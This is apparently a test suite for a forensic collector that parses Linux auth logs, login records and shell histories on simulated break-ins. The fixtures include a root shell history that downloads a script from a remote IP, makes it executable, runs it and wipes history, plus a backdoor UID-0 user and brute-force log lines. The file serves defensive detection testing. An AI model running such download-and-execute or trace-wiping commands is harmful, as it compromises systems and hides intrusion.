import { mkdir, mkdtemp, open, rm, symlink, utimes, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { gzipSync } from 'node:zlib';
import iconv from 'iconv-lite';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { collect } from '../../core/scan.ts';
import { collectWith, denyingRoot } from '../accounts/testing.ts';
import { LIMITS, authlogCollector, rotatedFiles } from './authlog.collector.ts';
import { lastlogRecord, utmpRecord } from './utmp.ts';

const ATTACKER = '45.9.148.10';
const dirs: string[] = [];

async function host(
  files: Record<string, string | Buffer | { link: string } | { sparse: number }>,
  mtimes: Record<string, string> = {},
) {
  const dir = await mkdtemp(path.join(tmpdir(), 'hegui-authlog-'));
  dirs.push(dir);
  for (const [p, content] of Object.entries(files)) {
    const real = path.join(dir, p);
    await mkdir(path.dirname(real), { recursive: true });
    if (typeof content === 'object' && 'link' in content) await symlink(content.link, real);
    else if (typeof content === 'object' && 'sparse' in content) {
      const handle = await open(real, 'w');
      await handle.truncate(content.sparse);
      await handle.close();
    } else await writeFile(real, content);
  }
  for (const [p, when] of Object.entries(mtimes))
    await utimes(path.join(dir, p), new Date(when), new Date(when));
  return dir;
}

afterAll(async () => {
  for (const d of dirs) await rm(d, { recursive: true, force: true });
});

function bruteForce(day: string, count: number, start = 0): string {
  return Array.from({ length: count }, (_, i) => {
    const s = start + i * 4;
    const t = `${day} 03:${String(10 + Math.floor(s / 60)).padStart(2, '0')}:${String(s % 60).padStart(2, '0')}`;
    return `${t} web-01 sshd[${3000 + i}]: Failed password for root from ${ATTACKER} port ${50000 + i} ssh2`;
  }).join('\n');
}

describe('rotatedFiles', () => {
  it('orders a family newest first: base, .1, .2.gz …, then dated rotations', () => {
    const names = [
      'auth.log.2.gz',
      'auth.log',
      'auth.log.10.gz',
      'auth.log.1',
      'secure-20260101',
      'secure',
      'secure-20260108.gz',
      'syslog',
      'auth.log.bak',
    ];
    const files = rotatedFiles(
      names.map((name) => ({ name, type: 'file' as const })),
      /^(auth\.log|secure)(?:\.(\d+)|-(\d{8,10}))?(\.gz|\.xz|\.bz2|\.zst)?$/,
    );
    expect(files.map((f) => f.name)).toEqual([
      'auth.log',
      'auth.log.1',
      'auth.log.2.gz',
      'auth.log.10.gz',
      'secure',
      'secure-20260108.gz',
      'secure-20260101',
    ]);
  });
});

describe('authlog collector: a server that was broken into', () => {
  let dir: string;
  beforeAll(async () => {
    const wtmp = Buffer.concat([
      utmpRecord({ type: 2, user: 'reboot', tty: '~', host: '6.1.0', sec: Date.UTC(2026, 2, 1) / 1000 }),
      utmpRecord({
        type: 7,
        pid: 3100,
        user: 'root',
        tty: 'pts/0',
        host: ATTACKER,
        sec: Date.UTC(2026, 2, 9, 20, 0, 5) / 1000,
      }),
      utmpRecord({
        type: 7,
        pid: 2000,
        user: 'ann',
        tty: 'pts/1',
        host: '10.0.0.5',
        sec: Date.UTC(2026, 2, 9, 1) / 1000,
      }),
    ]);
    const btmp = Buffer.concat(
      Array.from({ length: 9 }, (_, i) =>
        utmpRecord({
          type: 6,
          user: 'admin',
          tty: 'ssh:notty',
          host: '198.51.100.66',
          sec: Date.UTC(2026, 2, 9, 5, 0, i * 3) / 1000,
        }),
      ),
    );
    dir = await host(
      {
        'etc/localtime': { link: '/usr/share/zoneinfo/Asia/Shanghai' },
        'etc/passwd': 'root:x:0:0:root:/root:/bin/bash\nann:x:1000:1000::/home/ann:/bin/bash\n',
        'var/log/auth.log.2.gz': gzipSync(`${bruteForce('Mar  8', 12)}\n`),
        'var/log/auth.log.1': Buffer.concat([
          Buffer.from(
            'Mar  9 04:00:00 web-01 useradd[3300]: new user: name=sysupd, UID=0, GID=0, home=/root, shell=/bin/bash, from=/dev/pts/0\n',
          ),
          iconv.encode(
            'Mar  9 04:00:10 web-01 sshd[3301]: Invalid user 管理员 from 203.0.113.50 port 40000\n',
            'gbk',
          ),
          Buffer.alloc(2048),
          Buffer.from(
            '\nMar  9 04:00:20 web-01 sudo[3302]:      ann : 3 incorrect password attempts ; TTY=pts/1 ; PWD=/home/ann ; USER=root ; COMMAND=/bin/bash\n',
          ),
        ]),
        'var/log/auth.log': [
          `Mar 10 04:00:05 web-01 sshd[3100]: Accepted password for root from ${ATTACKER} port 50100 ssh2`,
          'Mar 10 04:00:05 web-01 sshd[3100]: pam_unix(sshd:session): session opened for user root(uid=0) by (uid=0)',
          'Mar 10 09:00:00 web-01 sshd[3200]: Accepted publickey for ann from 10.0.0.5 port 40000 ssh2: ED25519 SHA256:aaaa',
          'Mar 10 09:30:00 web-01 CRON[3201]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)',
          '',
        ].join('\n'),
        'var/log/wtmp': wtmp,
        'var/log/btmp': btmp,
        'var/log/lastlog': lastlogRecord({
          sec: Date.UTC(2026, 2, 9, 20, 0, 5) / 1000,
          tty: 'pts/0',
          host: ATTACKER,
        }),
        'root/.bash_history':
          'ls\ncd /dev/shm\ncurl -s http://203.0.113.9/k.sh -o k.sh\nchmod +x k.sh\n./k.sh\nhistory -c\n',
        'home/ann/.bash_history': { link: '/dev/null' },
      },
      {
        'var/log/auth.log.2.gz': '2026-03-08T12:00:00Z',
        'var/log/auth.log.1': '2026-03-09T12:00:00Z',
        'var/log/auth.log': '2026-03-10T12:00:00Z',
      },
    );
  });

  it('reads every log, record file and history, with no gaps', async () => {
    const bundle = await collect({ root: dir, sections: ['authlog'] });
    expect(bundle.gaps).toEqual([]);
    const s = bundle.sections.authlog!;
    expect(s.timezone).toBe('Asia/Shanghai');
    expect(
      s.files.map((f) => [f.path, f.compressed, f.lines, f.events, f.gb18030Lines, f.nulLines, f.yearFrom]),
    ).toEqual([
      ['/var/log/auth.log.2.gz', true, 12, 12, 0, 0, 2026],
      ['/var/log/auth.log.1', false, 4, 3, 1, 1, 2026],
      ['/var/log/auth.log', false, 4, 4, 0, 0, 2026],
    ]);
    expect(s.counts).toEqual({
      accepted: 2,
      'failed-password': 12,
      'invalid-user': 1,
      'session-opened': 2,
      'sudo-incorrect-password-attempts': 1,
      'user-added': 1,
    });
  });

  it('finds the brute force (log and btmp), and the accepted login from the same source', async () => {
    const s = (await collect({ root: dir, sections: ['authlog'] })).sections.authlog!;
    expect(s.verdicts.map((v) => [v.rule, v.source ?? v.user, v.firings, v.events, v.first.where])).toEqual([
      ['5763', ATTACKER, 1, 12, { path: '/var/log/auth.log.2.gz', line: 8 }],
      ['5404', 'ann', 1, 1, { path: '/var/log/auth.log.1', line: 4 }],
      ['btmp', '198.51.100.66', 1, 9, { path: '/var/log/btmp', line: 8 }],
    ]);
    // Shanghai is UTC+8: 03:10:28 local is 19:10:28 the day before in UTC.
    expect(s.verdicts[0]!.first.time).toBe('2026-03-07T19:10:28.000Z');
    const attacker = s.sources.find((x) => x.ip === ATTACKER)!;
    expect(attacker).toMatchObject({ failures: 12, invalidUsers: 0, acceptedCount: 1, users: ['root'] });
    expect(attacker.accepted.map((a) => [a.user, a.method, a.time, a.where])).toEqual([
      ['root', 'password', '2026-03-09T20:00:05.000Z', { path: '/var/log/auth.log', line: 1 }],
    ]);
    expect(attacker.sessions.map((r) => [r.user, r.tty, r.where])).toEqual([
      ['root', 'pts/0', { path: '/var/log/wtmp', line: 2 }],
    ]);
    expect(s.sources.map((x) => x.ip)).toEqual(['10.0.0.5', '198.51.100.66', '203.0.113.50', ATTACKER]);
    expect(s.acceptedCount).toBe(2);
    expect(s.btmpRecords).toBe(9);
    expect(s.logins.map((l) => [l.user, l.host])).toEqual([
      ['ann', '10.0.0.5'],
      ['root', ATTACKER],
    ]);
    expect(s.lastlog).toEqual([
      {
        uid: 0,
        user: 'root',
        tty: 'pts/0',
        host: ATTACKER,
        time: '2026-03-09T20:00:05.000Z',
        epoch: Date.UTC(2026, 2, 9, 20, 0, 5) / 1000,
        where: { path: '/var/log/lastlog', line: 1 },
      },
    ]);
  });

  it('keeps account changes and sudo failures as events, with GBK names decoded', async () => {
    const s = (await collect({ root: dir, sections: ['authlog'] })).sections.authlog!;
    expect(s.events.map((e) => [e.class, e.user, e.uid, e.where.line])).toEqual([
      ['user-added', 'sysupd', 0, 1],
      ['sudo-incorrect-password-attempts', 'ann', undefined, 4],
    ]);
    expect(s.sources.find((x) => x.ip === '203.0.113.50')!.users).toEqual(['管理员']);
  });

  it('reads histories: download-and-run across lines, wiping, and a history linked to /dev/null', async () => {
    const s = (await collect({ root: dir, sections: ['authlog'] })).sections.authlog!;
    expect(s.history.files).toEqual([
      { path: '/home/ann/.bash_history', user: 'ann', lines: 0, linkTarget: '/dev/null' },
      { path: '/root/.bash_history', user: 'root', lines: 6 },
    ]);
    expect(s.history.hits.map((h) => [h.kind, h.user, h.where.line ?? null, h.from?.line ?? null])).toEqual([
      ['history-wiping', 'ann', null, null],
      ['chmod-temp', 'root', 4, null],
      ['download-exec', 'root', 5, 3],
      ['temp-exec', 'root', 5, null],
      ['history-wiping', 'root', 6, null],
    ]);
  });
});

describe('authlog collector: bad input', () => {
  it('records a gzip bomb as too-large, a truncated .gz and wtmp record as truncated, an .xz as unread', async () => {
    const saved = LIMITS.gzOutputBytes;
    LIMITS.gzOutputBytes = 4 * 1024 * 1024;
    try {
      const lines = `${bruteForce('Mar  8', 10)}\n`;
      const bomb = gzipSync(Buffer.concat([Buffer.from(lines), Buffer.alloc(64 * 1024 * 1024, 0x41)]), {
        level: 9,
      });
      const truncated = gzipSync(
        Array.from(
          { length: 3000 },
          (_, i) => `Mar  7 01:00:00 h sshd[${i}]: Invalid user u${i} from 192.0.2.${i % 250} port 1`,
        ).join('\n'),
      );
      const wtmp = Buffer.concat([
        utmpRecord({ type: 7, user: 'root', tty: 'pts/0', host: '10.0.0.1', sec: 1_780_000_000 }),
        Buffer.alloc(100, 1),
      ]);
      const dir = await host({
        'var/log/auth.log.2.gz': bomb,
        'var/log/auth.log.3.gz': truncated.subarray(0, truncated.length - 200),
        'var/log/auth.log.4.xz': Buffer.from([0xfd, 0x37, 0x7a, 0x58, 0x5a, 0x00]),
        'var/log/wtmp': wtmp,
      });
      expect(bomb.length).toBeLessThan(1024 * 1024);
      const bundle = await collect({ root: dir, sections: ['authlog'] });
      expect(bundle.gaps.map((g) => [g.path, g.reason, g.field])).toEqual([
        ['/var/log/auth.log.2.gz', 'too-large', undefined],
        ['/var/log/auth.log.3.gz', 'truncated', undefined],
        ['/var/log/auth.log.4.xz', 'read-error', undefined],
        ['/var/log/wtmp', 'truncated', 'wtmp'],
      ]);
      const s = bundle.sections.authlog!;
      // What came before the cut is still evidence: the bomb's first lines make a brute-force verdict.
      expect(s.verdicts.map((v) => v.rule)).toContain('5763');
      expect(s.counts['invalid-user']).toBeGreaterThan(1000);
      expect(s.logins).toHaveLength(1);
    } finally {
      LIMITS.gzOutputBytes = saved;
    }
  });

  it('records a sparse 1 GiB auth.log as too-large without reading it', async () => {
    const dir = await host({ 'var/log/auth.log': { sparse: 1024 * 1024 * 1024 } });
    const started = performance.now();
    const bundle = await collect({ root: dir, sections: ['authlog'] });
    expect(performance.now() - started).toBeLessThan(5000);
    expect(bundle.gaps.map((g) => [g.path, g.reason])).toEqual([['/var/log/auth.log', 'too-large']]);
  });

  it('reads a log linked to /dev/null as switched off, not as a gap', async () => {
    const dir = await host({ 'var/log/auth.log': { link: '/dev/null' } });
    const bundle = await collect({ root: dir, sections: ['authlog'] });
    expect(bundle.gaps).toEqual([]);
    expect(bundle.sections.authlog!.files).toEqual([
      {
        path: '/var/log/auth.log',
        compressed: false,
        lines: 0,
        events: 0,
        gb18030Lines: 0,
        nulLines: 0,
        overlongLines: 0,
        yearFrom: null,
        linkTarget: '/dev/null',
      },
    ]);
  });

  it('gives lines the year before when their month is after the mtime month (a log across New Year)', async () => {
    const dir = await host(
      {
        'var/log/auth.log':
          'Dec 31 23:59:58 h sshd[1]: Accepted password for ann from 10.0.0.5 port 1 ssh2\nJan  1 00:00:03 h sshd[2]: Accepted password for ann from 10.0.0.5 port 2 ssh2\n',
      },
      { 'var/log/auth.log': '2026-01-01T06:00:00Z' },
    );
    const s = (await collect({ root: dir, sections: ['authlog'] })).sections.authlog!;
    expect(s.timezone).toBeNull();
    expect(s.sources[0]!.accepted.map((a) => a.time)).toEqual([
      '2025-12-31T23:59:58.000',
      '2026-01-01T00:00:03.000',
    ]);
  });

  it('skips logs past the total budget, oldest first, and says so', async () => {
    const saved = LIMITS.totalBytes;
    LIMITS.totalBytes = 1600;
    try {
      const line = 'Mar  9 04:00:00 h sshd[1]: Accepted password for ann from 10.0.0.5 port 1 ssh2\n';
      const dir = await host({
        'var/log/auth.log': line.repeat(10),
        'var/log/auth.log.1': line.repeat(10),
        'var/log/auth.log.2': line.repeat(10),
      });
      const bundle = await collect({ root: dir, sections: ['authlog'] });
      expect(bundle.gaps.map((g) => [g.path, g.reason])).toEqual([['/var/log/auth.log.2', 'too-large']]);
      expect(bundle.sections.authlog!.files.map((f) => f.path)).toEqual([
        '/var/log/auth.log.1',
        '/var/log/auth.log',
      ]);
    } finally {
      LIMITS.totalBytes = saved;
    }
  });

  it('bounds verdicts, sources and events, but keeps what the checks need', async () => {
    const saved = { ...LIMITS };
    Object.assign(LIMITS, { verdicts: 2, accountEvents: 1, sourcesTotal: 2, sourcesWithoutLogin: 1 });
    try {
      const burst = (ip: string, minute: number, n: number) =>
        Array.from(
          { length: n },
          (_, i) =>
            `Mar  9 04:${String(minute).padStart(2, '0')}:${String(i * 2).padStart(2, '0')} h sshd[1]: Failed password for root from ${ip} port ${i} ssh2`,
        );
      const dir = await host({
        'var/log/auth.log': [
          ...burst('192.0.2.1', 1, 20),
          ...burst('192.0.2.2', 2, 15),
          ...burst('192.0.2.3', 3, 9),
          ...burst('192.0.2.4', 4, 8),
          ...burst('192.0.2.5', 5, 3),
          ...burst('192.0.2.6', 6, 2),
          'Mar  9 05:00:00 h sshd[2]: Accepted password for root from 192.0.2.4 port 9 ssh2',
          'Mar  9 05:01:00 h useradd[3]: new user: name=a, UID=1001, GID=1001, home=/home/a, shell=/bin/sh',
          'Mar  9 05:02:00 h useradd[3]: new user: name=b, UID=1002, GID=1002, home=/home/b, shell=/bin/sh',
          "Mar  9 05:03:00 h usermod[3]: change user 'b' UID from '1002' to '0'",
          '',
        ].join('\n'),
      });
      const s = (await collect({ root: dir, sections: ['authlog'] })).sections.authlog!;
      expect(s.verdicts.map((v) => v.source)).toEqual(['192.0.2.1', '192.0.2.4']);
      expect(s.verdictsDropped).toBe(2);
      expect(s.sources.map((x) => x.ip)).toEqual(['192.0.2.1', '192.0.2.2', '192.0.2.4']);
      expect(s.sourcesDropped).toBe(3);
      expect(s.events.map((e) => [e.user, e.uid])).toEqual([
        ['a', 1001],
        ['b', 0],
      ]);
      expect(s.eventsDropped).toBe(1);
    } finally {
      Object.assign(LIMITS, saved);
    }
  });

  it('records an unreadable auth.log as a gap of the section, an unreadable history with its field', async () => {
    const dir = await host({
      'var/log/auth.log': 'Mar  9 04:00:00 h sshd[1]: Accepted password for ann from 10.0.0.5 port 1 ssh2\n',
      'root/.bash_history': 'ls\n',
    });
    const { gaps } = await collectWith(
      authlogCollector,
      await denyingRoot(dir, ['/var/log/auth.log', '/root/.bash_history']),
    );
    expect(gaps.map((g) => [g.path, g.reason, g.field])).toEqual([
      ['/var/log/auth.log', 'permission-denied', undefined],
      ['/root/.bash_history', 'permission-denied', 'history'],
    ]);
  });

  it('finds nothing and records nothing on a host without logs', async () => {
    const dir = await host({ 'etc/hostname': 'empty\n' });
    const bundle = await collect({ root: dir, sections: ['authlog'] });
    expect(bundle.gaps).toEqual([]);
    expect(bundle.sections.authlog).toMatchObject({
      files: [],
      verdicts: [],
      sources: [],
      events: [],
      logins: [],
      lastlog: [],
    });
  });
});
